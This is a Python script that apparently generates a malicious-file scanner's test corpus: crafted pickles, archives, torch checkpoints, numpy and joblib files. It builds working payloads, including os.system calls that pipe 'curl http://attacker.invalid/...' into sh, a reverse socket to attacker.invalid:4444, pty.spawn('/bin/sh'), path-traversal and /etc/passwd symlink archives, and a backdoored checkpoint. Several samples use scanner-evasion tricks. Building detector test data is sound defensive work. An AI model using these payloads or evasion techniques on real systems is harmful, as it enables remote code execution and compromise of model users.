#!/usr/bin/env python3
"""Writes testdata/samples/ (the rule catalogue's positive and negative
samples) and examples/ (the README's demo folder).

Run with Debian's python3, which has torch, numpy and joblib:
    /usr/bin/python3 testdata/gen/samples.py
Outputs are deterministic and committed; CI never runs this script.
Malicious samples are assembled opcode by opcode (pk.py): no payload is ever
defined as a Python object, imported or executed.
"""
import base64
import gzip
import io
import os
import struct
import sys
import tarfile
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(__file__))
import pk  # noqa: E402
import sevenz  # noqa: E402

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
SAMPLES = os.path.join(ROOT, "testdata", "samples")
EXAMPLES = os.path.join(ROOT, "examples")
FIXED_TIME = (2024, 1, 1, 0, 0, 0)


def write(rel, data, base=SAMPLES):
    path = os.path.join(base, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def zip_bytes(members, method=zipfile.ZIP_STORED):
    """members: list of (name, bytes) or (ZipInfo, bytes)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members:
            info = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name, FIXED_TIME)
            info.compress_type = method
            z.writestr(info, data)
    return buf.getvalue()


def tar_bytes(members):
    """members: list of (TarInfo-kwargs dict, bytes or None)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for kw, data in members:
            info = tarfile.TarInfo(kw.pop("name"))
            info.mtime = 1704067200
            for k, v in kw.items():
                setattr(info, k, v)
            if data is not None:
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
            else:
                t.addfile(info)
    return buf.getvalue()


# ---------------------------------------------------------------- pickles

OS_SYSTEM_V0 = pk.glob("os", "system") + pk.put0(0) + pk.MARK + pk.u0("curl http://attacker.invalid/x | sh") + pk.TUPLE + pk.REDUCE + pk.STOP
OS_SYSTEM_V2 = pk.pickle(pk.call("os", "system", pk.s("id > /tmp/pwned")))


# A malicious pickle carried as base64 text (staging).
STAGED = base64.b64encode(OS_SYSTEM_V2).decode()


def pickles():
    write("pickle/os_system_v0.pkl", OS_SYSTEM_V0)
    write("pickle/os_system_v2.pkl", OS_SYSTEM_V2)
    # protocol 4, framed, posix alias through STACK_GLOBAL and MEMOIZE.
    body = pk.s("posix") + pk.MEMOIZE + pk.s("system") + pk.MEMOIZE + pk.STACK_GLOBAL + pk.MEMOIZE + pk.s("uname -a") + pk.MEMOIZE + pk.TUPLE1 + pk.REDUCE + pk.STOP
    write("pickle/posix_system_v4.pkl", pk.proto(4) + pk.frame(len(body)) + body)
    # GHSA-5j3x-jp52-966f: dotted STACK_GLOBAL name walks through pathlib's os.
    write("pickle/dotted_pathlib_os_system.pkl", pk.pickle(pk.stack_global("pathlib", "os.system"), pk.s("id"), pk.TUPLE1, pk.REDUCE, p=4))
    # malicious11 family: module and name memoized behind decoys, fetched by GET.
    write("pickle/memo_stack_global.pkl", pk.pickle(
        pk.s("os"), pk.put(2), pk.POP, pk.s("system"), pk.put(3), pk.POP,
        pk.s("torch"), pk.put(0), pk.POP, pk.s("LongStorage"), pk.put(1), pk.POP,
        pk.get(2), pk.get(3), pk.STACK_GLOBAL, pk.s("whoami"), pk.TUPLE1, pk.REDUCE, p=4))
    # getattr(__import__('os'), 'system')('id')
    imp = pk.glob("builtins", "__import__") + pk.s("os") + pk.TUPLE1 + pk.REDUCE
    ga = pk.glob("builtins", "getattr") + imp + pk.s("system") + pk.TUPLE2 + pk.REDUCE
    write("pickle/getattr_import_os.pkl", pk.pickle(ga, pk.s("id"), pk.TUPLE1, pk.REDUCE))
    # operator.methodcaller('system', 'id')(posix module via __import__)
    mc = pk.glob("operator", "methodcaller") + pk.s("system") + pk.s("id") + pk.TUPLE2 + pk.REDUCE
    write("pickle/methodcaller_system.pkl", pk.pickle(mc, imp, pk.TUPLE1, pk.REDUCE))
    # malicious10: INST calls exec with a string.
    write("pickle/inst_exec.pkl", pk.MARK + pk.string0("import os; os.system('id')") + pk.inst("__builtin__", "exec") + pk.STOP)
    # GHSA-r7v6-mfhq-g3m2: OBJ instantiation of pty.spawn, result popped.
    write("pickle/obj_pty_spawn.pkl", pk.pickle(pk.MARK, pk.glob("pty", "spawn"), pk.s("/bin/sh"), pk.OBJ, pk.POP, pk.NONE))
    # malicious19: functools.partial(torch.load) hides a nested load.
    part = pk.glob("functools", "partial") + pk.glob("torch.serialization", "load") + pk.TUPLE1 + pk.REDUCE
    write("pickle/partial_torch_load.pkl", pk.pickle(part, pk.s("other_model.bin"), pk.TUPLE1, pk.REDUCE))
    # GHSA-9gvj-pp9x-gcfr: STACK_GLOBAL operands pushed with STRING/BINSTRING.
    write("pickle/string_operands_stack_global.pkl",
          pk.string0("subprocess") + pk.binstring(b"getoutput") + pk.STACK_GLOBAL + pk.string0("id") + pk.TUPLE1 + pk.REDUCE + pk.STOP)
    # EXT1 used after a real payload (extension registry is empty by default).
    write("pickle/ext_after_payload.pkl", pk.pickle(pk.call("os", "system", pk.s("id")), pk.POP, pk.ext1(7)))
    write("pickle/unknown_global.pkl", pk.pickle(pk.call("somepkg.helpers", "do_something", pk.s("arg"))))
    write("pickle/open_write.pkl", pk.pickle(pk.call("builtins", "open", pk.s("/home/user/.bashrc"), pk.s("a"))))
    addr = pk.s("attacker.invalid") + pk.i(4444) + pk.TUPLE2
    write("pickle/socket_connect.pkl", pk.pickle(pk.glob("socket", "create_connection"), addr, pk.TUPLE1, pk.REDUCE))
    # getattr with a name computed at load time (str.join of a list).
    joined = (pk.glob("builtins", "getattr") + pk.s("") + pk.s("join") + pk.TUPLE2 + pk.REDUCE +
              pk.EMPTY_LIST + pk.MARK + pk.s("sys") + pk.s("tem") + pk.APPENDS + pk.TUPLE1 + pk.REDUCE)
    write("pickle/getattr_computed_name.pkl", pk.pickle(pk.glob("builtins", "getattr"), imp, joined, pk.TUPLE2, pk.REDUCE))
    # numpy.__builtins__ (modelscan #330): dunder traversal.
    write("pickle/dunder_builtins.pkl", pk.pickle(pk.stack_global("numpy", "__builtins__"), p=4))
    # sys_module_override family: BUILD rewrites a module, then a computed STACK_GLOBAL.
    ov = (pk.s("torch._utils") + pk.MEMOIZE + pk.s("_rebuild_tensor") + pk.MEMOIZE + pk.POP + pk.POP +
          pk.s("torch") + pk.s("_utils") + pk.STACK_GLOBAL + pk.MEMOIZE +
          pk.EMPTY_DICT + pk.get(1) + pk.s("builtins") + pk.SETITEM + pk.BUILD + pk.POP +
          pk.get(0) + pk.get(1) + pk.STACK_GLOBAL + pk.s("eval") + pk.STACK_GLOBAL + pk.s("1+1") + pk.TUPLE1 + pk.REDUCE)
    write("pickle/module_override.pkl", pk.pickle(ov, p=4))
    # fastai style: getattr(<pickled object>, 'predict') rebuilds a bound method.
    obj = pk.glob("collections", "OrderedDict") + pk.EMPTY_TUPLE + pk.REDUCE
    write("pickle/getattr_bound_method.pkl", pk.pickle(pk.glob("builtins", "getattr"), obj, pk.s("keys"), pk.TUPLE2, pk.REDUCE))
    write("pickle/sys_exit.pkl", pk.pickle(pk.call("sys", "exit", pk.i(3))))
    # type confusion: an integer memo value as STACK_GLOBAL module.
    write("pickle/type_confusion.pkl", pk.pickle(pk.i(42), pk.MEMOIZE, pk.s("system"), pk.MEMOIZE, pk.get(0), pk.get(1), pk.STACK_GLOBAL, p=4))
    # keyerror: a GET of a key never stored.
    write("pickle/keyerror_memo.pkl", pk.pickle(pk.s("os"), pk.MEMOIZE, pk.get(5), p=4))
    # FRAME straddle (cpython #154848): a 3-byte frame holds BINBYTES and half
    # of its 4-byte length. pickle.loads reads the length across the frame end
    # and sees the payload as bytes; CPython's file reader drops the frame's
    # rest, reads a zero length after it and executes the payload.
    hidden = pk.glob("os", "system") + pk.s("id") + pk.TUPLE1 + pk.REDUCE + pk.POP
    linear_len = 2 + len(hidden)
    straddle = (pk.proto(4) + pk.frame(3) + b"B" + struct.pack("<H", linear_len) + b"\x00\x00\x00\x00" +
                hidden + pk.STOP)
    write("pickle/frame_straddle.pkl", straddle)
    write("pickle/trailing_elf.pkl", pk.pickle(pk.EMPTY_LIST) + b"\x7fELF\x02\x01\x01" + b"\x00" * 57)
    benign_inner = pk.pickle(pk.glob("collections", "OrderedDict"), pk.EMPTY_TUPLE, pk.REDUCE, p=4)
    write("pickle/nested_loads_benign.pkl", pk.pickle(pk.glob("pickle", "loads"), pk.bb(benign_inner), pk.TUPLE1, pk.REDUCE))
    write("pickle/staged_base64.pkl", pk.pickle(pk.EMPTY_DICT, pk.s("note"), pk.s("weights v2"), pk.s("blob"), pk.s(STAGED), pk.SETITEM, pk.SETITEM))
    write("pickle/benign_list_v4.pkl", pk.pickle(pk.EMPTY_LIST, pk.MEMOIZE, pk.MARK, pk.s("a"), pk.s("b"), pk.i(3), pk.APPENDS, p=4))
    write("pickle/benign_ordereddict_v2.pkl", pk.pickle(pk.glob("collections", "OrderedDict"), pk.EMPTY_TUPLE, pk.REDUCE,
                                                        pk.MARK, pk.s("lr"), b"G" + struct.pack(">d", 0.01), pk.SETITEMS))
    # A user class used as classes are (NEWOBJ + BUILD).
    write("pickle/user_class_v2.pkl", pk.pickle(pk.glob("__main__", "Net"), pk.EMPTY_TUPLE, pk.NEWOBJ,
                                                pk.EMPTY_DICT, pk.s("hidden"), pk.i(16), pk.SETITEM, pk.BUILD))


# ---------------------------------------------------------------- archives

def archives():
    benign = pk.pickle(pk.EMPTY_DICT)
    write("archive/plain.zip", zip_bytes([("model/data.pkl", benign), ("model/notes.txt", b"hello\n")]))
    write("archive/traversal.zip", zip_bytes([("../../home/user/.bashrc", b"echo pwned\n"), ("data.pkl", benign)]))
    write("archive/traversal.tar", tar_bytes([({"name": "../outside.txt"}, b"x\n"), ({"name": "ok.txt"}, b"y\n")]))
    write("archive/symlink.tar", tar_bytes([({"name": "link", "type": tarfile.SYMTYPE, "linkname": "/etc/passwd"}, None),
                                           ({"name": "data.pkl"}, benign)]))
    dup = zip_bytes([("a/data.pkl", benign), ("a/data.pkl", OS_SYSTEM_V2)])
    write("archive/duplicate.zip", dup)
    # A genuinely encrypted member: a 12-byte encryption header and scrambled
    # data, flag 0x1, and the CRC of the plaintext (as ZipCrypto records it).
    scrambled = bytes(range(7, 19)) + bytes(c ^ 0x5a for c in OS_SYSTEM_V2)
    enc = zip_bytes([("secret.pkl", scrambled)])
    write("archive/encrypted.zip", set_crc(set_flags(enc, 0x1), zlib.crc32(OS_SYSTEM_V2)))
    # A bzip2 member that expands a thousandfold: a pickle skipping 80 MiB.
    big = pk.proto(4) + b"\x8e" + struct.pack("<Q", 80 << 20) + b"\x00" * (80 << 20) + pk.STOP
    write("archive/bomb.zip", zip_bytes([("data.pkl", big)], method=zipfile.ZIP_BZIP2))
    write("archive/pickle.7z", sevenz.archive([("model/data.pkl", OS_SYSTEM_V2)]))
    write("archive/encrypted.7z", sevenz.archive([("data.pkl", OS_SYSTEM_V2)], "-pinfected", "-mhe=on"))
    # Names visible, data encrypted.
    write("archive/encrypted_members.7z", sevenz.archive([("data.pkl", OS_SYSTEM_V2)], "-pinfected"))
    # A solid folder through the BCJ filter and LZMA2 (as in picklescan's
    # malicious1.7z): the payload follows a benign pickle in the same stream.
    write("archive/solid_pickles.7z", sevenz.archive(
        [("a/benign.pkl", benign), ("a/notes.txt", b"hello\n" * 100), ("a/data.pkl", OS_SYSTEM_V2)],
        "-ms=on", "-m0=bcj", "-m1=lzma2"))
    write("archive/traversal.7z", sevenz.archive([("../outside.txt", b"x\n"), ("ok.txt", b"y\n")], "-spf", cwd_name="in/sub"))
    write("archive/symlink.7z", sevenz.archive([("link", "->/etc/passwd"), ("data.pkl", benign)], "-snl"))
    # Nesting: a tar.gz holding a zip holding a malicious pickle.
    inner = zip_bytes([("ckpt/data.pkl", OS_SYSTEM_V2)])
    write("archive/nested.tar.gz", gzip.compress(tar_bytes([({"name": "release/model.zip"}, inner)]), mtime=0))
    bad = bytearray(zip_bytes([("archive/data.pkl", OS_SYSTEM_V2)]))
    crc_at = bad.find(b"PK\x03\x04") + 14
    bad[crc_at:crc_at + 4] = b"\xde\xad\xbe\xef"
    cd = bad.find(b"PK\x01\x02") + 16
    bad[cd:cd + 4] = b"\xde\xad\xbe\xef"
    write("archive/bad_crc.zip", bytes(bad))
    mm = bytearray(zip_bytes([("archive/data.pkl", benign)]))
    i = mm.find(b"archive/data.pkl")  # first occurrence is the local header's name
    mm[i:i + 16] = b"archive/datap.kl"
    write("archive/name_mismatch.zip", bytes(mm))


def set_crc(data, crc):
    """Overwrites the CRC-32 in every local and central header."""
    b = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        i = b.find(sig)
        while i >= 0:
            struct.pack_into("<I", b, i + off, crc)
            i = b.find(sig, i + 4)
    return bytes(b)


def set_flags(data, flag):
    """Sets a general-purpose flag bit in every local and central header."""
    b = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = b.find(sig)
        while i >= 0:
            v = struct.unpack_from("<H", b, i + off)[0] | flag
            struct.pack_into("<H", b, i + off, v)
            i = b.find(sig, i + 4)
    return bytes(b)


# ---------------------------------------------------------------- torch

def torch_samples():
    import torch
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    buf = io.BytesIO()
    torch.save(model.state_dict(), buf)
    write("torch/state_dict_zip.pt", buf.getvalue())
    write("state_dict.pt", buf.getvalue(), base=EXAMPLES)
    buf = io.BytesIO()
    torch.save(model.state_dict(), buf, _use_new_zipfile_serialization=False)
    write("torch/legacy.pt", stable_storage_keys(buf.getvalue()))
    script = torch.jit.script(model)
    buf = io.BytesIO()
    torch.jit.save(script, buf)
    write("torch/torchscript.pt", buf.getvalue())
    # A legacy file whose first pickle computes the magic with eval.
    magic = pk.pickle(pk.call("builtins", "eval", pk.s("0x1950A86A20F9469CFC6C")))
    rest = buf_legacy_tail()
    write("torch/magic_eval_legacy.pt", magic + rest)
    write("torch/legacy_tar.tar", legacy_tar())
    # A module pickled with the plain pickle module: its tensors travel as
    # torch.storage._load_from_bytes(b'<torch.save zip>') calls.
    import pickle as std_pickle
    layer = torch.nn.Linear(2, 2)
    with torch.no_grad():
        layer.weight.fill_(0.5)
        layer.bias.fill_(0.25)
    write("torch/plain_pickled_module.pkl", std_pickle.dumps(layer, protocol=2))
    # _load_from_bytes of a torch zip whose data.pkl runs a command.
    evil_zip = zip_bytes([("archive/data.pkl", OS_SYSTEM_V2), ("archive/version", b"3\n")])
    write("torch/load_from_bytes_payload.pkl",
          pk.pickle(pk.glob("torch.storage", "_load_from_bytes"), pk.bb(evil_zip), pk.TUPLE1, pk.REDUCE))
    # Depth: base64 in a dict in a pickle in a torch zip in a tar.
    deep_pickle = pk.pickle(pk.EMPTY_DICT, pk.s("meta"), pk.s(STAGED), pk.SETITEM)
    deep_zip = zip_bytes([("archive/data.pkl", deep_pickle), ("archive/version", b"3\n")])
    write("archive/deep_nested.tar", tar_bytes([({"name": "release/model.pt"}, deep_zip)]))
    # Examples: a checkpoint whose data.pkl was rewritten with a payload.
    write("backdoored_checkpoint.pt", inject_zip_payload(), base=EXAMPLES)


def stable_storage_keys(data):
    """Legacy torch.save names storages by memory address; rename them to
    counters so the file is reproducible (no offsets refer to them)."""
    import re
    keys = []
    for m in re.finditer(rb"X(....)(\d+)", data):
        n = struct.unpack("<I", m.group(1))[0]
        key = m.group(2)[:n]
        if len(key) == n and key not in keys:
            keys.append(key)
    for i, key in enumerate(keys):
        data = data.replace(b"X" + struct.pack("<I", len(key)) + key,
                            b"X" + struct.pack("<I", len(str(i))) + str(i).encode())
    return data


def buf_legacy_tail():
    """The pickles after the magic in torch.save's legacy layout."""
    return (pk.pickle(b"M" + struct.pack("<H", 1001)) + pk.pickle(pk.EMPTY_DICT) +
            pk.pickle(pk.EMPTY_DICT) + pk.pickle(pk.EMPTY_LIST))


def legacy_tar():
    """PyTorch's pre-0.1.10 tar layout, built by hand (current PyTorch cannot write it)."""
    storages = (pk.pickle(pk.i(1)) +
                pk.pickle(pk.s("0"), pk.s("cpu"), pk.glob("torch", "FloatStorage"), pk.TUPLE3) +
                struct.pack("<q", 3) + struct.pack("<3f", 1, 2, 3) +
                pk.pickle(pk.EMPTY_LIST))
    tensors = (pk.pickle(pk.i(1)) + pk.pickle(pk.s("1"), pk.s("0"), pk.glob("torch", "FloatTensor"), pk.TUPLE3) +
               struct.pack("<ii", 1, 0) + struct.pack("<q", 3) + struct.pack("<q", 1) + struct.pack("<q", 0))
    main = pk.pickle(pk.EMPTY_DICT, pk.s("w"), b"P1\n", pk.SETITEM)
    sys_info = pk.pickle(pk.EMPTY_DICT, pk.s("little_endian"), pk.NEWTRUE, pk.SETITEM)
    return tar_bytes([({"name": "sys_info"}, sys_info), ({"name": "pickle"}, main),
                      ({"name": "storages"}, storages), ({"name": "tensors"}, tensors)])


def inject_zip_payload():
    """A real torch.save checkpoint whose data.pkl gets an os.system call
    spliced in front of its own content (the classic hub attack)."""
    import torch
    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = []
    for info in src.infolist():
        data = src.read(info)
        if info.filename.endswith("data.pkl"):
            payload = pk.glob("os", "system") + pk.s("curl -s http://attacker.invalid/s | sh") + pk.TUPLE1 + pk.REDUCE + pk.POP
            data = data[:2] + payload + data[2:]
        out.append((info.filename, data))
    return zip_bytes(out)


# ---------------------------------------------------------------- numpy, joblib

def numpy_samples():
    import numpy as np
    b = io.BytesIO()
    np.save(b, np.arange(6, dtype="<f4").reshape(2, 3))
    write("numpy/float_array.npy", b.getvalue())
    write("weights.npy", b.getvalue(), base=EXAMPLES)
    b = io.BytesIO()
    np.save(b, np.array([1, "two", None], dtype=object), allow_pickle=True)
    write("numpy/object_array.npy", b.getvalue())
    hdr = b"{'descr': '<f8', 'fortran_order': False, 'shape': (2, 3), 'evil': 1}"
    hdr += b" " * (63 - len(hdr) % 64) + b"\n"
    write("numpy/bad_header.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + b"\x00" * 48)
    # Example: an object array whose pickle calls os.system.
    hdr = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr += b" " * (63 - (10 + len(hdr)) % 64) + b"\n"
    write("object_array_payload.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + OS_SYSTEM_V2, base=EXAMPLES)


def joblib_samples():
    # joblib.dump writes each numpy array's raw bytes inline after its
    # NumpyArrayWrapper record; pickletools-based scanners stop there. The
    # payload is spliced in after the array bytes, where only a walker that
    # skips arrays by their declared size reaches it.
    import joblib
    import numpy as np
    import tempfile
    arrays = {
        "w": np.arange(12, dtype="<f8").reshape(3, 4), "i8": np.array([1, -2, 3], dtype="i1"),
        "u": np.array(["ab", "cde"]), "rec": np.zeros(2, dtype=[("x", "<i4"), ("y", "<f2", (2,))]),
        "obj": np.array([1, "two", None], dtype=object), "when": np.array(["2024-01-01"], dtype="M8[D]"),
        "marker": "PAYLOAD_HERE",
    }
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "a.joblib")
        joblib.dump(arrays, path, protocol=2)
        with open(path, "rb") as f:
            data = f.read()
    write("joblib/arrays.joblib", data)
    marker = b"X" + struct.pack("<I", 6) + b"marker"  # protocol 2 BINUNICODE
    at = data.index(marker)
    payload = pk.glob("os", "system") + pk.s("id") + pk.TUPLE1 + pk.REDUCE + pk.POP
    evil = data[:at] + payload + data[at:]
    write("joblib/payload_after_array.joblib", evil)
    write("joblib/payload_after_array_xz.joblib", lzma_xz(evil))

    state = pk.pickle(pk.glob("collections", "OrderedDict"), pk.EMPTY_TUPLE, pk.REDUCE,
                      pk.MARK, pk.s("n_estimators"), pk.i(10), pk.SETITEMS)
    write("joblib/estimator_zlib.joblib", zlib.compress(state, 3))
    declared = "0x%x" % (len(state) + 5)
    write("joblib/zf_bad_length.joblib", b"ZF" + declared.encode().ljust(19) + zlib.compress(state))
    write("config.pkl.gz", gzip.compress(state, mtime=0), base=EXAMPLES)


def lzma_xz(data):
    import lzma
    return lzma.compress(data, format=lzma.FORMAT_XZ, preset=3)


def function_samples():
    """Functions pickled as bytecode by cloudpickle and dill (defined here,
    never called), and a hand-built FunctionType(marshal.loads(...))."""
    import cloudpickle
    import dill
    import marshal
    evil = lambda cmd: __import__("os").system(cmd)  # noqa: E731 (serialised, never called)
    benign = lambda x: x * 2 + 1  # noqa: E731
    write("pickle/cloudpickle_function_evil.pkl", cloudpickle.dumps(evil, protocol=4))
    write("pickle/cloudpickle_function_benign.pkl", cloudpickle.dumps(benign, protocol=4))
    write("pickle/dill_function_benign.pkl", dill.dumps(benign, protocol=4))
    code = compile("lambda: __import__('os').system('id')", "<payload>", "eval").co_consts[0]
    write("pickle/marshal_function.pkl", pk.pickle(
        pk.glob("types", "FunctionType"), pk.glob("marshal", "loads"), pk.bb(marshal.dumps(code)), pk.TUPLE1, pk.REDUCE,
        pk.EMPTY_DICT, pk.TUPLE2, pk.REDUCE))


def main():
    pickles()
    archives()
    torch_samples()
    numpy_samples()
    joblib_samples()
    function_samples()
    write("misc/png_named.pt", b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 17)
    write("os_system.pkl", OS_SYSTEM_V0, base=EXAMPLES)


if __name__ == "__main__":
    main()
